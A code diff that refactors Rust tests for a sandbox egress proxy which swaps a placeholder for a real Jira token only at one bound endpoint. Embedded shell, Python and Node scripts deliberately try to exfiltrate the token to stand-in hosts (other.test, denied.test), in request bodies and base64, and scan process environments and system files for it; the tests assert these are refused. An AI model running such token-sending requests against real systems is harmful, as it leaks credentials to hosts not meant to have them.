@@ -42,50 +42,144 @@ fn have(prog: &str, args: &[&str]) -> bool {
         .is_ok_and(|o| o.status.success())
 }
 
-/// What the sandbox runs: each case prints `CASE <name> <http status>`.
-const SCRIPT: &str = r#"
-set -u
-c() { name=$1; shift; printf 'CASE %s %s\n' "$name" "$(curl -sS -o /dev/null -w '%{http_code}' --max-time 20 "$@" 2>/dev/null)"; }
-c curl-https -H "Authorization: Bearer $JIRA_TOKEN" "https://api.test:$TLS/rest/api/2/search?jql=x"
-c curl-http -H "X-Api-Key: $PLAIN_KEY" "http://api.test:$PLAIN/v1/ping"
-c curl-control-other-http "http://other.test:$PLAIN/plain"
-c curl-other-host -H "Authorization: Bearer $JIRA_TOKEN" "https://other.test:$TLS/rest/x"
-c curl-denied-host -H "Authorization: Bearer $JIRA_TOKEN" "https://denied.test:$TLS/rest/x"
-c curl-body --data "token=$JIRA_TOKEN" "https://api.test:$TLS/rest/x"
-c curl-base64 --data "$(printf 'x%s' "$JIRA_TOKEN" | base64 -w0)" "https://api.test:$TLS/rest/x"
-c curl-basic-wrong-host -u "bot:$JIRA_TOKEN" "https://other.test:$TLS/rest/x"
-python3 - <<'PY'
-import os, base64, requests
-tls, plain = os.environ["TLS"], os.environ["PLAIN"]
-ph = os.environ["JIRA_TOKEN"]
-def case(name, f):
+/// An allowlist of `entries` on loopback: the names resolve to 127.0.0.1
+/// (denied.test too, which is not allowed), no upstream DNS.
+fn loopback_policy(entries: Vec<String>) -> EgressPolicy {
+    let mut policy = EgressPolicy::allowlist("jira_search", entries).unwrap();
+    for n in ["api.test", "other.test", "denied.test"] {
+        policy
+            .resolve
+            .insert(n.into(), IpAddr::from([127, 0, 0, 1]));
+    }
+    policy.allow_cidrs.push("127.0.0.1/32".parse().unwrap());
+    policy.upstream_dns = Some("127.0.0.1:9".parse().unwrap());
+    policy
+}
+
+/// JIRA_TOKEN: a bearer token bound to `https://api.test:{port}/rest`.
+fn jira_injection(port: u16, upstream_ca: &std::path::Path) -> Injection {
+    Injection {
+        secret: "JIRA_TOKEN".into(),
+        placeholder: PH.into(),
+        binding: Binding {
+            host: "api.test".into(),
+            port,
+            path_prefix: Some("/rest".into()),
+            placement: Placement::Header {
+                name: "Authorization".into(),
+                template: "Bearer {token}".into(),
+            },
+            upstream_ca: Some(upstream_ca.to_path_buf()),
+        },
+        source: Arc::new(Fixed(TOKEN)),
+    }
+}
+
+/// What a sandbox running one of the scripts printed.
+struct Printed {
+    out: String,
+    err: String,
+}
+
+impl Printed {
+    /// The status of `CASE name`.
+    fn case(&self, name: &str) -> String {
+        let Printed { out, err } = self;
+        out.lines()
+            .find_map(|l| l.strip_prefix(&format!("CASE {name} ")))
+            .unwrap_or_else(|| panic!("no case {name}: {out} {err}"))
+            .to_string()
+    }
+
+    /// The half token nowhere in the sandbox (the scan ran and looked at
+    /// files).
+    fn assert_scan_clean(&self) {
+        let Printed { out, err } = self;
+        let scan = out
+            .lines()
+            .find(|l| l.starts_with("SCANNED"))
+            .unwrap_or_else(|| panic!("{out} {err}"));
+        assert!(scan.ends_with("HITS []"), "{scan}");
+        let n: usize = scan.split_whitespace().nth(1).unwrap().parse().unwrap();
+        assert!(n >= 5, "{scan}");
+    }
+
+    /// The trust bundle: the host's roots plus the session CA, where the
+    /// jail puts it, linked and named by the three variables.
+    fn assert_bundle(&self) {
+        let bundle = self.out.lines().find(|l| l.starts_with("BUNDLE ")).unwrap();
+        let f: Vec<&str> = bundle.split_whitespace().collect();
+        assert!(f[1].parse::<usize>().unwrap() >= 2, "{bundle}");
+        assert_eq!(
+            &f[2..],
+            [
+                "/etc/ssl/certs/ca-certificates.crt",
+                "/etc/ssl/certs/ca-certificates.crt",
+                "/etc/ssl/certs/ca-certificates.crt"
+            ]
+        );
+    }
+}
+
+/// What arrived upstream: the token on `with_token` bound requests only,
+/// each with its bearer header on a `/rest/` path; never a placeholder,
+/// never a refused request.
+fn assert_upstream_saw(seen: &[String], with_token: usize, placeholders: &[&str]) {
+    let got: Vec<&String> = seen.iter().filter(|s| s.contains(TOKEN)).collect();
+    assert_eq!(got.len(), with_token, "{seen:#?}");
+    for s in &got {
+        assert!(
+            s.contains(&format!("authorization: Bearer {TOKEN}\n")),
+            "{s}"
+        );
+        assert!(s.contains("/rest/"), "{s}");
+    }
+    for s in seen {
+        for ph in placeholders {
+            assert!(!s.contains(ph), "a placeholder reached the upstream: {s}");
+        }
+        assert!(
+            !s.contains("/rest/x"),
+            "a refused request reached the upstream: {s}"
+        );
+    }
+}
+
+/// The events: `used` requests got JIRA_TOKEN, `exfil` were refused as
+/// exfiltration of it.
+fn assert_jira_events(ev: &[EgressEvent], used: usize, exfil: usize) {
+    let got = ev
+        .iter()
+        .filter(|e| e.injected == vec!["JIRA_TOKEN".to_string()])
+        .count();
+    assert_eq!(got, used, "{ev:#?}");
+    let got = ev
+        .iter()
+        .filter(|e| e.exfiltration.as_deref() == Some("JIRA_TOKEN"))
+        .count();
+    assert_eq!(got, exfil, "{ev:#?}");
+}
+
+/// Python's `case(name, f)`: prints `CASE <name> <http status>`, or the
+/// error's type.
+macro_rules! py_case {
+    () => {
+        r#"def case(name, f):
     try:
         print("CASE", name, f().status_code, flush=True)
     except Exception as e:
         print("CASE", name, "error", type(e).__name__, flush=True)
-case("py-https", lambda: requests.get(f"https://api.test:{tls}/rest/py", headers={"Authorization": "Bearer " + ph}, timeout=20))
-case("py-http", lambda: requests.get(f"http://api.test:{plain}/v1/py", headers={"X-Api-Key": os.environ["PLAIN_KEY"]}, timeout=20))
-case("py-other-host", lambda: requests.get(f"https://other.test:{tls}/rest/x", headers={"Authorization": "Bearer " + ph}, timeout=20))
-case("py-basic-wrong-host", lambda: requests.get(f"https://other.test:{tls}/rest/x", auth=("bot", ph), timeout=20))
-case("py-base64-body", lambda: requests.post(f"https://api.test:{tls}/rest/x", data=base64.urlsafe_b64encode(("ab" + ph).encode()), timeout=20))
-PY
-node -e '
-const tls = process.env.TLS, ph = process.env.JIRA_TOKEN;
-async function c(name, url, opts) {
-  try { const r = await fetch(url, opts); await r.text(); console.log("CASE", name, r.status); }
-  catch (e) { console.log("CASE", name, "error", String(e.cause && e.cause.code || e)); }
+"#
+    };
 }
-(async () => {
-  await c("node-https", `https://api.test:${tls}/rest/node`, {headers: {authorization: "Bearer " + ph}});
-  await c("node-http", `http://api.test:${process.env.PLAIN}/v1/node`, {headers: {"x-api-key": process.env.PLAIN_KEY}});
-  await c("node-other-host", `https://other.test:${tls}/rest/x`, {headers: {authorization: "Bearer " + ph}});
-  await c("node-body", `https://api.test:${tls}/rest/x`, {method: "POST", body: JSON.stringify({t: ph})});
-})();
-'
-# The token nowhere in the sandbox: environments and command lines of every
-# process, and every file of /etc, /tmp and /dev. The half given on stdin
-# is not the token; finding it would mean the token is there.
-python3 -c '
+
+/// A scan for the half token given on stdin in the environment and command
+/// line of every process and every file of /etc, /tmp and /dev: prints
+/// `SCANNED <files> HITS <where>`. The half is not the token; finding it
+/// would mean the token is there.
+macro_rules! scan_for_token {
+    () => {
+        r#"python3 -c '
 import os, sys
 half = sys.stdin.read().strip().encode()
 hits = []
@@ -107,8 +201,56 @@ for top in ("/etc", "/tmp", "/dev"):
             except OSError: pass
 print("SCANNED", n, "HITS", hits)
 '
-echo "BUNDLE $(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt) $(readlink /etc/ssl/cert.pem) $SSL_CERT_FILE $NODE_EXTRA_CA_CERTS"
-"#;
+"#
+    };
+}
+
+/// What the sandbox runs: each case prints `CASE <name> <http status>`.
+const SCRIPT: &str = concat!(
+    r#"
+set -u
+c() { name=$1; shift; printf 'CASE %s %s\n' "$name" "$(curl -sS -o /dev/null -w '%{http_code}' --max-time 20 "$@" 2>/dev/null)"; }
+c curl-https -H "Authorization: Bearer $JIRA_TOKEN" "https://api.test:$TLS/rest/api/2/search?jql=x"
+c curl-http -H "X-Api-Key: $PLAIN_KEY" "http://api.test:$PLAIN/v1/ping"
+c curl-control-other-http "http://other.test:$PLAIN/plain"
+c curl-other-host -H "Authorization: Bearer $JIRA_TOKEN" "https://other.test:$TLS/rest/x"
+c curl-denied-host -H "Authorization: Bearer $JIRA_TOKEN" "https://denied.test:$TLS/rest/x"
+c curl-body --data "token=$JIRA_TOKEN" "https://api.test:$TLS/rest/x"
+c curl-base64 --data "$(printf 'x%s' "$JIRA_TOKEN" | base64 -w0)" "https://api.test:$TLS/rest/x"
+c curl-basic-wrong-host -u "bot:$JIRA_TOKEN" "https://other.test:$TLS/rest/x"
+python3 - <<'PY'
+import os, base64, requests
+tls, plain = os.environ["TLS"], os.environ["PLAIN"]
+ph = os.environ["JIRA_TOKEN"]
+"#,
+    py_case!(),
+    r#"case("py-https", lambda: requests.get(f"https://api.test:{tls}/rest/py", headers={"Authorization": "Bearer " + ph}, timeout=20))
+case("py-http", lambda: requests.get(f"http://api.test:{plain}/v1/py", headers={"X-Api-Key": os.environ["PLAIN_KEY"]}, timeout=20))
+case("py-other-host", lambda: requests.get(f"https://other.test:{tls}/rest/x", headers={"Authorization": "Bearer " + ph}, timeout=20))
+case("py-basic-wrong-host", lambda: requests.get(f"https://other.test:{tls}/rest/x", auth=("bot", ph), timeout=20))
+case("py-base64-body", lambda: requests.post(f"https://api.test:{tls}/rest/x", data=base64.urlsafe_b64encode(("ab" + ph).encode()), timeout=20))
+PY
+node -e '
+const tls = process.env.TLS, ph = process.env.JIRA_TOKEN;
+async function c(name, url, opts) {
+  try { const r = await fetch(url, opts); await r.text(); console.log("CASE", name, r.status); }
+  catch (e) { console.log("CASE", name, "error", String(e.cause && e.cause.code || e)); }
+}
+(async () => {
+  await c("node-https", `https://api.test:${tls}/rest/node`, {headers: {authorization: "Bearer " + ph}});
+  await c("node-http", `http://api.test:${process.env.PLAIN}/v1/node`, {headers: {"x-api-key": process.env.PLAIN_KEY}});
+  await c("node-other-host", `https://other.test:${tls}/rest/x`, {headers: {authorization: "Bearer " + ph}});
+  await c("node-body", `https://api.test:${tls}/rest/x`, {method: "POST", body: JSON.stringify({t: ph})});
+})();
+'
+# The token nowhere in the sandbox: environments and command lines of every
+# process, and every file of /etc, /tmp and /dev. The half given on stdin
+# is not the token; finding it would mean the token is there.
+"#,
+    scan_for_token!(),
+    r#"echo "BUNDLE $(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt) $(readlink /etc/ssl/cert.pem) $SSL_CERT_FILE $NODE_EXTRA_CA_CERTS"
+"#,
+);
 
 #[test]
 fn placeholders_become_tokens_only_at_the_bound_endpoint_for_curl_python_and_node() {
@@ -140,23 +282,12 @@ fn placeholders_become_tokens_only_at_the_bound_endpoint_for_curl_python_and_nod
     let ca_file = dir.path().join("upstream-ca.pem");
     std::fs::write(&ca_file, &ca_pem).unwrap();
 
-    let mut policy = EgressPolicy::allowlist(
-        "jira_search",
-        [
-            format!("api.test:{tls}"),
-            format!("other.test:{tls}"),
-            format!("api.test:{plain}"),
-            format!("other.test:{plain}"),
-        ],
-    )
-    .unwrap();
-    for n in ["api.test", "other.test", "denied.test"] {
-        policy
-            .resolve
-            .insert(n.into(), IpAddr::from([127, 0, 0, 1]));
-    }
-    policy.allow_cidrs.push("127.0.0.1/32".parse().unwrap());
-    policy.upstream_dns = Some("127.0.0.1:9".parse().unwrap());
+    let policy = loopback_policy(vec![
+        format!("api.test:{tls}"),
+        format!("other.test:{tls}"),
+        format!("api.test:{plain}"),
+        format!("other.test:{plain}"),
+    ]);
     let _ = HostPort::parse("unused.test:1");
     let mut spec = SandboxSpec::new("jira_search", ["/bin/sh", "-c", SCRIPT]);
     spec.limits.wall = Duration::from_secs(120);
@@ -166,21 +297,7 @@ fn placeholders_become_tokens_only_at_the_bound_endpoint_for_curl_python_and_nod
     spec.env.push(("PLAIN".into(), plain.to_string()));
     spec.network = Network::Doors(Box::new(policy));
     let injections = Injections::new(vec![
-        Injection {
-            secret: "JIRA_TOKEN".into(),
-            placeholder: PH.into(),
-            binding: Binding {
-                host: "api.test".into(),
-                port: tls,
-                path_prefix: Some("/rest".into()),
-                placement: Placement::Header {
-                    name: "Authorization".into(),
-                    template: "Bearer {token}".into(),
-                },
-                upstream_ca: Some(ca_file.clone()),
-            },
-            source: Arc::new(Fixed(TOKEN)),
-        },
+        jira_injection(tls, &ca_file),
         Injection {
             secret: "PLAIN_KEY".into(),
             placeholder: PH_PLAIN.into(),
@@ -217,15 +334,13 @@ fn placeholders_become_tokens_only_at_the_bound_endpoint_for_curl_python_and_nod
     let o = native
         .run(&spec, format!("{half}\n").into_bytes(), &ctx)
         .expect("run");
-    let out = String::from_utf8_lossy(&o.stdout).to_string();
-    let err = String::from_utf8_lossy(&o.stderr).to_string();
-    assert_eq!(o.status, Status::Ok, "{} {out} {err}", o.reason);
-    let case = |name: &str| -> String {
-        out.lines()
-            .find_map(|l| l.strip_prefix(&format!("CASE {name} ")))
-            .unwrap_or_else(|| panic!("no case {name}: {out} {err}"))
-            .to_string()
+    let printed = Printed {
+        out: String::from_utf8_lossy(&o.stdout).to_string(),
+        err: String::from_utf8_lossy(&o.stderr).to_string(),
     };
+    let (out, err) = (&printed.out, &printed.err);
+    assert_eq!(o.status, Status::Ok, "{} {out} {err}", o.reason);
+    let case = |name: &str| printed.case(name);
     // Positive controls: each client reaches the bound endpoint, over
     // HTTPS trusting the session CA with no flag of its own.
     for c in [
@@ -264,44 +379,18 @@ fn placeholders_become_tokens_only_at_the_bound_endpoint_for_curl_python_and_nod
     // What arrived upstream: the token on the bound requests only, never
     // a placeholder.
     let seen: Vec<String> = log.lock().unwrap().iter().map(|s| s.line()).collect();
-    let with_token: Vec<&String> = seen.iter().filter(|s| s.contains(TOKEN)).collect();
-    assert_eq!(with_token.len(), 3, "curl, requests and fetch: {seen:#?}");
-    for s in &with_token {
-        assert!(
-            s.contains(&format!("authorization: Bearer {TOKEN}\n")),
-            "{s}"
-        );
-        assert!(s.contains(" /rest/") || s.contains("/rest/"), "{s}");
-    }
+    // curl, requests and fetch.
+    assert_upstream_saw(&seen, 3, &[PH, PH_PLAIN]);
     assert_eq!(
         seen.iter().filter(|s| s.contains(TOKEN_PLAIN)).count(),
         3,
         "{seen:#?}"
     );
-    for s in &seen {
-        assert!(
-            !s.contains(PH) && !s.contains(PH_PLAIN),
-            "a placeholder reached the upstream: {s}"
-        );
-        assert!(
-            !s.contains("/rest/x"),
-            "a refused request reached the upstream: {s}"
-        );
-    }
     // Events: uses name the secret, refusals are marked; no value anywhere.
-    let ev = events.lock().unwrap().clone();
-    let used = ev
-        .iter()
-        .filter(|e| e.injected == vec!["JIRA_TOKEN".to_string()])
-        .count();
-    assert_eq!(used, 3, "{ev:#?}");
-    let exfil = ev
-        .iter()
-        .filter(|e| e.exfiltration.as_deref() == Some("JIRA_TOKEN"))
-        .count();
     // Every refusal but the denied host (refused at CONNECT, before any
-    // request is seen).
-    assert_eq!(exfil, 9, "{ev:#?}");
+    // request is seen) is an exfiltration.
+    let ev = events.lock().unwrap().clone();
+    assert_jira_events(&ev, 3, 9);
     assert!(
         ev.iter()
             .any(|e| e.name == "denied.test" && e.decision == cordon_runtime::Decision::Refused)
@@ -310,26 +399,9 @@ fn placeholders_become_tokens_only_at_the_bound_endpoint_for_curl_python_and_nod
     for t in [TOKEN, TOKEN_PLAIN, half] {
         assert!(!all.contains(t), "a token in cordon's output or events");
     }
-    // The token nowhere in the sandbox (the scan ran and looked at files).
-    let scan = out
-        .lines()
-        .find(|l| l.starts_with("SCANNED"))
-        .unwrap_or_else(|| panic!("{out} {err}"));
-    assert!(scan.ends_with("HITS []"), "{scan}");
-    let n: usize = scan.split_whitespace().nth(1).unwrap().parse().unwrap();
-    assert!(n >= 5, "{scan}");
-    // The trust bundle: the host's roots plus the session CA, linked, named.
-    let bundle = out.lines().find(|l| l.starts_with("BUNDLE ")).unwrap();
-    let f: Vec<&str> = bundle.split_whitespace().collect();
-    assert!(f[1].parse::<usize>().unwrap() >= 2, "{bundle}");
-    assert_eq!(
-        &f[2..],
-        [
-            "/etc/ssl/certs/ca-certificates.crt",
-            "/etc/ssl/certs/ca-certificates.crt",
-            "/etc/ssl/certs/ca-certificates.crt"
-        ]
-    );
+    // The token nowhere in the sandbox; the trust bundle.
+    printed.assert_scan_clean();
+    printed.assert_bundle();
 }
 
 #[test]
@@ -426,7 +498,8 @@ fn an_image_root_gets_the_session_ca_over_its_own_bundle() {
 
 /// What the gVisor sandbox runs (curl and `requests`, both through the
 /// proxy door: a guest kernel's resolver is not pointed at the DNS door).
-const GVISOR_SCRIPT: &str = r#"
+const GVISOR_SCRIPT: &str = concat!(
+    r#"
 set -u
 c() { name=$1; shift; printf 'CASE %s %s\n' "$name" "$(curl -sS -o /dev/null -w '%{http_code}' --max-time 20 "$@" 2>/dev/null)"; }
 c curl-https -H "Authorization: Bearer $JIRA_TOKEN" "https://api.test:$TLS/rest/api/2/search?jql=x"
@@ -435,39 +508,17 @@ c curl-denied-host -H "Authorization: Bearer $JIRA_TOKEN" "https://denied.test:$
 python3 - <<'PY'
 import os, requests
 tls, ph = os.environ["TLS"], os.environ["JIRA_TOKEN"]
-def case(name, f):
-    try:
-        print("CASE", name, f().status_code, flush=True)
-    except Exception as e:
-        print("CASE", name, "error", type(e).__name__, flush=True)
-case("py-https", lambda: requests.get(f"https://api.test:{tls}/rest/py", headers={"Authorization": "Bearer " + ph}, timeout=20))
+"#,
+    py_case!(),
+    r#"case("py-https", lambda: requests.get(f"https://api.test:{tls}/rest/py", headers={"Authorization": "Bearer " + ph}, timeout=20))
 case("py-other-host", lambda: requests.get(f"https://other.test:{tls}/rest/x", headers={"Authorization": "Bearer " + ph}, timeout=20))
 PY
 echo "ENV $JIRA_TOKEN"
-python3 -c '
-import os, sys
-half = sys.stdin.read().strip().encode()
-hits = []
-for pid in os.listdir("/proc"):
-    if pid.isdigit():
-        for f in ("environ", "cmdline"):
-            try:
-                if half in open(f"/proc/{pid}/{f}", "rb").read(): hits.append(f"/proc/{pid}/{f}")
-            except OSError: pass
-n = 0
-for top in ("/etc", "/tmp", "/dev"):
-    for d, _, files in os.walk(top):
-        for f in files:
-            p = os.path.join(d, f)
-            try:
-                if os.path.isfile(p):
-                    n += 1
-                    if half in open(p, "rb").read(): hits.append(p)
-            except OSError: pass
-print("SCANNED", n, "HITS", hits)
-'
-echo "BUNDLE $(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt) $(readlink /etc/ssl/cert.pem) $SSL_CERT_FILE $REQUESTS_CA_BUNDLE"
-"#;
+"#,
+    scan_for_token!(),
+    r#"echo "BUNDLE $(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt) $(readlink /etc/ssl/cert.pem) $SSL_CERT_FILE $REQUESTS_CA_BUNDLE"
+"#,
+);
 
 /// A P3 gVisor tool with a secret: the placeholder in the sandbox becomes
 /// the token at the door for the bound endpoint only, the session CA being
@@ -520,18 +571,7 @@ fn gvisor_injection(test: &str) {
     let dir = cordon_testkit::scratch();
     let ca_file = dir.path().join("upstream-ca.pem");
     std::fs::write(&ca_file, &ca_pem).unwrap();
-    let mut policy = EgressPolicy::allowlist(
-        "jira_search",
-        [format!("api.test:{tls}"), format!("other.test:{tls}")],
-    )
-    .unwrap();
-    for n in ["api.test", "other.test", "denied.test"] {
-        policy
-            .resolve
-            .insert(n.into(), IpAddr::from([127, 0, 0, 1]));
-    }
-    policy.allow_cidrs.push("127.0.0.1/32".parse().unwrap());
-    policy.upstream_dns = Some("127.0.0.1:9".parse().unwrap());
+    let policy = loopback_policy(vec![format!("api.test:{tls}"), format!("other.test:{tls}")]);
     let mut spec = SandboxSpec::new("jira_search", ["/bin/sh", "-c", GVISOR_SCRIPT]);
     spec.profile = cordon_policy::policy::Profile::P3;
     spec.limits = cordon_policy::resolve::default_limits(spec.profile).expect("P3 limits");
@@ -546,21 +586,7 @@ fn gvisor_injection(test: &str) {
         on_egress: Arc::new(move |e| ev.lock().unwrap().push(e)),
         credentials: Credentials {
             env: vec![("JIRA_TOKEN".into(), Zeroizing::new(PH.to_string()))],
-            injections: Injections::new(vec![Injection {
-                secret: "JIRA_TOKEN".into(),
-                placeholder: PH.into(),
-                binding: Binding {
-                    host: "api.test".into(),
-                    port: tls,
-                    path_prefix: Some("/rest".into()),
-                    placement: Placement::Header {
-                        name: "Authorization".into(),
-                        template: "Bearer {token}".into(),
-                    },
-                    upstream_ca: Some(ca_file.clone()),
-                },
-                source: Arc::new(Fixed(TOKEN)),
-            }]),
+            injections: Injections::new(vec![jira_injection(tls, &ca_file)]),
         },
         placement: Default::default(),
     };
@@ -568,15 +594,13 @@ fn gvisor_injection(test: &str) {
     let o = g
         .run(&spec, format!("{half}\n").into_bytes(), &ctx)
         .expect("run");
-    let out = String::from_utf8_lossy(&o.stdout).to_string();
-    let err = String::from_utf8_lossy(&o.stderr).to_string();
-    assert_eq!(o.status, Status::Ok, "{} {out} {err}", o.reason);
-    let case = |name: &str| -> String {
-        out.lines()
-            .find_map(|l| l.strip_prefix(&format!("CASE {name} ")))
-            .unwrap_or_else(|| panic!("no case {name}: {out} {err}"))
-            .to_string()
+    let printed = Printed {
+        out: String::from_utf8_lossy(&o.stdout).to_string(),
+        err: String::from_utf8_lossy(&o.stderr).to_string(),
     };
+    let (out, err) = (&printed.out, &printed.err);
+    assert_eq!(o.status, Status::Ok, "{} {out} {err}", o.reason);
+    let case = |name: &str| printed.case(name);
     // Positive controls: the bound endpoint, over HTTPS trusting the
     // session CA with no flag of the client's own.
     for c in ["curl-https", "py-https"] {
@@ -593,58 +617,17 @@ fn gvisor_injection(test: &str) {
     );
     // The sandbox sees only the placeholder.
     assert!(out.contains(&format!("\nENV {PH}\n")), "{out}");
-    let scan = out
-        .lines()
-        .find(|l| l.starts_with("SCANNED"))
-        .unwrap_or_else(|| panic!("{out} {err}"));
-    assert!(scan.ends_with("HITS []"), "{scan}");
-    let n: usize = scan.split_whitespace().nth(1).unwrap().parse().unwrap();
-    assert!(n >= 5, "{scan}");
-    // The upstream sees the real token, on the bound requests only, and
-    // never a placeholder.
+    printed.assert_scan_clean();
+    // The upstream sees the real token, on the bound requests only (curl
+    // and requests), and never a placeholder.
     let seen: Vec<String> = log.lock().unwrap().iter().map(|s| s.line()).collect();
-    let with_token: Vec<&String> = seen.iter().filter(|s| s.contains(TOKEN)).collect();
-    assert_eq!(with_token.len(), 2, "curl and requests: {seen:#?}");
-    for s in &with_token {
-        assert!(
-            s.contains(&format!("authorization: Bearer {TOKEN}\n")),
-            "{s}"
-        );
-        assert!(s.contains("/rest/"), "{s}");
-    }
-    for s in &seen {
-        assert!(!s.contains(PH), "a placeholder reached the upstream: {s}");
-        assert!(
-            !s.contains("/rest/x"),
-            "a refused request reached the upstream: {s}"
-        );
-    }
+    assert_upstream_saw(&seen, 2, &[PH]);
     let ev = events.lock().unwrap().clone();
-    let used = ev
-        .iter()
-        .filter(|e| e.injected == vec!["JIRA_TOKEN".to_string()])
-        .count();
-    assert_eq!(used, 2, "{ev:#?}");
-    let exfil = ev
-        .iter()
-        .filter(|e| e.exfiltration.as_deref() == Some("JIRA_TOKEN"))
-        .count();
-    assert_eq!(exfil, 2, "{ev:#?}");
+    assert_jira_events(&ev, 2, 2);
     let all = format!("{ev:?}{out}{err}{}", o.reason);
     for t in [TOKEN, half] {
         assert!(!all.contains(t), "a token in cordon's output or events");
     }
-    // The trust bundle: the host's roots plus the session CA, where the
-    // jail puts it, linked and named.
-    let bundle = out.lines().find(|l| l.starts_with("BUNDLE ")).unwrap();
-    let f: Vec<&str> = bundle.split_whitespace().collect();
-    assert!(f[1].parse::<usize>().unwrap() >= 2, "{bundle}");
-    assert_eq!(
-        &f[2..],
-        [
-            "/etc/ssl/certs/ca-certificates.crt",
-            "/etc/ssl/certs/ca-certificates.crt",
-            "/etc/ssl/certs/ca-certificates.crt"
-        ]
-    );
+    // The trust bundle.
+    printed.assert_bundle();
 }
